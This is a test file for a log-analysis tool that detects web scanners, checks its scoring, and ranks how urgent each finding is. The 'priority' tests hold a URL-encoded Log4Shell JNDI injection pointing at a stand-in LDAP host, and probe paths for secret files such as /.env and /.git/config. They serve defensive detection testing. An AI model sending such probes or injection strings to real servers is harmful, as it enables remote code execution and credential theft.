import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { analyze } from "../../src/stories/analyze.ts";
import { Report } from "../../src/stories/report.ts";

const NOW = Date.UTC(2026, 10, 23);
const samples = ["capture.pcap.zst", "firewall.log", "access.log", "access-www2.log"].map((name) => `samples/${name}`);
let folder = "";

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "vedette-"));
});
afterAll(() => rmSync(folder, { recursive: true }));

/** A file of access-log lines, one a second: source, path, status. */
function accessLog(name: string, lines: readonly (readonly [string, string, number])[]): string {
  const path = join(folder, name);
  const text = lines.map(([source, target, status], i) => {
    const second = String(i % 60).padStart(2, "0");
    const minute = String(Math.floor(i / 60) % 60).padStart(2, "0");
    return `${source} - - [22/Nov/2026:10:${minute}:${second} +0000] "GET ${target} HTTP/1.1" ${status} 312 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"`;
  });
  writeFileSync(path, `${text.join("\n")}\n`);
  return path;
}

const words = ["admin", "backup", "old", "test", "console", "portal", "secret", "dump", "shop", "beta"];
const guesses = words.map((word) => ["203.0.113.7", `/${word}`, 404] as const);

describe("analyze", () => {
  test("reports what the contract promises, and the same again", async () => {
    const first = await analyze({ inputs: samples, now: NOW });
    const second = await analyze({ inputs: samples, now: NOW });
    expect(Report.parse(first.report)).toEqual(first.report);
    expect(JSON.stringify(second.report)).toBe(JSON.stringify(first.report));
  });

  test("scores can be recomputed from a whole ledger", async () => {
    const { report } = await analyze({ inputs: samples, now: NOW });
    const [address] = report.actors.filter((actor) => actor.verdict === "scanner").map((actor) => actor.address);
    const { explained } = await analyze({ inputs: samples, now: NOW, explain: address! });
    expect(explained!.evidenceOmitted).toBe(0);
    let score = 0;
    let scoredMs = Number.NEGATIVE_INFINITY;
    for (const row of explained!.evidence) {
      const atMs = Date.parse(row.at);
      const elapsedMs = Math.max(0, atMs - scoredMs);
      score = Math.max(0, score * 2 ** (-(Number.isFinite(elapsedMs) ? elapsedMs : 0) / (7 * 86_400_000)) + row.weight);
      scoredMs = Math.max(scoredMs, atMs);
      expect(score).toBeCloseTo(row.score, 1);
    }
    const decisive = explained!.evidence.filter((row) => row.at <= explained!.decidedAt! && row.weight > 0);
    expect(decisive.length).toBeGreaterThanOrEqual(explained!.decidedAfter!);
  });

  test("a weight is the logarithm of its probabilities, clipped", async () => {
    const { report } = await analyze({ inputs: samples, now: NOW });
    const rows = report.actors.flatMap((actor) => actor.evidence);
    expect(rows.length).toBeGreaterThan(50);
    for (const { weight, ifScanner, ifVisitor } of rows) {
      const ratio = Math.log(ifScanner / ifVisitor);
      if (weight > 0) expect(weight).toBeLessThan(ratio + 0.05);
      else expect(weight).toBeGreaterThan(ratio - 0.05);
    }
  });

  test("times outside --since and --until are not judged", async () => {
    const path = accessLog("period.log", guesses);
    const all = await analyze({ inputs: [path], now: NOW });
    const none = await analyze({ inputs: [path], now: NOW, untilMs: Date.UTC(2026, 10, 22, 9) });
    const few = await analyze({ inputs: [path], now: NOW, sinceMs: Date.UTC(2026, 10, 22, 10, 0, 8) });
    expect(all.report.counts).toMatchObject({ observations: 10, scanners: 1 });
    expect(none.report.counts).toMatchObject({ observations: 0, scanners: 0 });
    expect(few.report.counts).toMatchObject({ observations: 2, scanners: 0 });
  });

  test("the budget sets the threshold", async () => {
    const path = accessLog("budget.log", guesses);
    const usual = await analyze({ inputs: [path], now: NOW });
    const strict = await analyze({ inputs: [path], now: NOW, budget: 0.01 });
    expect(usual.report.threshold).toBeCloseTo(Math.log(10_000), 2);
    expect(strict.report.threshold).toBeCloseTo(Math.log(1_000_000), 2);
    expect(strict.report.actors[0]!.decidedAfter!).toBeGreaterThan(usual.report.actors[0]!.decidedAfter!);
  });

  test("one input that cannot be read does not keep the others from being reported", async () => {
    const path = accessLog("good.log", guesses);
    const { report } = await analyze({ inputs: [join(folder, "missing.log"), path], now: NOW });
    expect(report.inputs.map(({ error }) => error !== undefined)).toEqual([true, false]);
    expect(report.counts.scanners).toBe(1);
  });

  test("the same scan in two logs is one actor", async () => {
    const path = accessLog("once.log", guesses);
    const again = accessLog("twice.log", guesses);
    const { report } = await analyze({ inputs: [path, again], now: NOW });
    const alone = await analyze({ inputs: [path], now: NOW });
    expect(report.actors.map(({ address }) => address)).toEqual(["203.0.113.7"]);
    expect(report.actors[0]!.score).toBeCloseTo(alone.report.actors[0]!.score, 1);
  });
});

describe("priority", () => {
  const asks = ["/.env", "/phpmyadmin/", "/server-status", "/.git/config", "/actuator/env", "/solr/admin/info/system"];
  const attempt = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D";
  const scan = (...extra: readonly (readonly [string, number])[]) => [
    ...guesses,
    ...extra.map(([path, status]) => ["203.0.113.7", path, status] as const),
  ];

  test.each([
    ["a file of secrets that is not there", scan(["/.env", 404]), "noise"],
    ["a file of secrets that is handed out", scan(["/.env", 200]), "act"],
    ["a file that one host lacks and another hands out", scan(["/.env", 404], ["/.env", 200]), "act"],
    ["a server that answers whatever is asked", scan(...asks.map((path) => [path, 200] as const)), "noise"],
    ["an attempt in the query of a page that answers any query", scan([attempt, 200]), "notable"],
  ])("%s", async (name, lines, priority) => {
    const { report } = await analyze({ inputs: [accessLog(`${name}.log`, lines)], now: NOW });
    expect(report.actors.map((actor) => [actor.verdict, actor.priority])).toEqual([["scanner", priority]]);
  });

  test("explain shows the row that was answered", async () => {
    const path = accessLog("answered.log", scan(["/.env", 404], ["/.env", 200]));
    const { explained } = await analyze({ inputs: [path], now: NOW, explain: "203.0.113.7" });
    expect(explained!.checks).toEqual([
      { id: "dotenv-file", product: "Laravel/Symfony/Node dotenv", count: 2, answered: 1 },
    ]);
    expect(explained!.evidence.at(-1)).toMatchObject({ position: 12, weight: 0 });
  });
});

describe("who is told", () => {
  const from = (sources: readonly string[], paths: readonly string[], status: number) =>
    paths.map((path, i) => [sources[i % sources.length]!, path, status] as const);
  const addresses = Array.from({ length: 30 }, (_, i) => `2001:db8:beef:1::${(i + 1).toString(16)}`);
  const paths = Array.from(
    { length: 30 },
    (_, i) => `/${words[i % 10]}-${"abc"[Math.floor(i / 10)]}/${words[(i * 7) % 10]}.bak`,
  );
  const told = async (name: string, lines: Parameters<typeof accessLog>[1]) => {
    const { report } = await analyze({ inputs: [accessLog(name, lines)], now: NOW });
    return { counts: report.counts, told: report.actors.map(({ address, verdict }) => `${address} ${verdict}`) };
  };

  test("a source that changes its address within a /64 is one actor, and its addresses are no visitors", async () => {
    expect(await told("rotation.log", from(addresses, paths, 404))).toMatchObject({
      counts: { actors: 1, visitors: 0, scanners: 1 },
      told: ["2001:db8:beef:1::/64 scanner"],
    });
  });

  test("that one of its addresses is found out by itself does not make the others visitors", async () => {
    const lines = [
      ...from(addresses, paths, 404),
      ...from(
        [addresses[0]!],
        guesses.map(([, path]) => path),
        404,
      ),
    ];
    expect(await told("mostly-rotation.log", lines)).toMatchObject({
      counts: { actors: 1, visitors: 0, scanners: 1 },
      told: ["2001:db8:beef:1::/64 scanner"],
    });
  });

  test("one scanner among the visitors of a /64 is told by its address", async () => {
    const pages = Array.from({ length: 29 }, () => "/");
    const lines = [...from(addresses.slice(1), pages, 200), ...from([addresses[0]!], paths.slice(0, 12), 404)];
    expect(await told("neighbours.log", lines)).toMatchObject({
      counts: { actors: 30, visitors: 29, scanners: 1 },
      told: ["2001:db8:beef:1::1 scanner"],
    });
  });

  test("two guesses make a suspect, until ordinary visits outweigh them", async () => {
    const suspicious = from(["203.0.113.9"], ["/backup-of-site.tar", "/old-shop.zip"], 404);
    const others = Array.from({ length: 12 }, (_, i) => `198.51.100.${i + 1}`);
    const pages = Array.from({ length: 24 }, (_, i) => `/page-${"abcdefghijkl"[Math.floor(i / 2)]}.html`);
    const visits = others.flatMap((other) =>
      from(
        [other],
        pages.filter((_, i) => i % 2 === 0),
        200,
      ),
    );
    const ordinary = from(
      ["203.0.113.9"],
      pages.filter((_, i) => i % 2 === 0),
      200,
    );
    expect((await told("suspect.log", [...visits, ...suspicious])).told).toEqual(["203.0.113.9 suspect"]);
    expect((await told("visitor.log", [...visits, ...suspicious, ...ordinary])).told).toEqual([]);
  });
});

const laboratory = "../shared/data/lab";

describe("the labelled sets", () => {
  test.skipIf(!existsSync(laboratory))(
    "no ordinary client is called a scanner (needs the labelled recordings)",
    async () => {
      const set = `${laboratory}/benign-offload`;
      const inputs = ["capture.pcap.zst", "fw.log.gz", "nginx-access.log.gz", "apache-access.log.gz"];
      const { report } = await analyze({ inputs: inputs.map((name) => `${set}/${name}`), now: NOW });
      expect(report.actors.filter(({ verdict }) => verdict === "scanner")).toEqual([]);
    },
  );
});
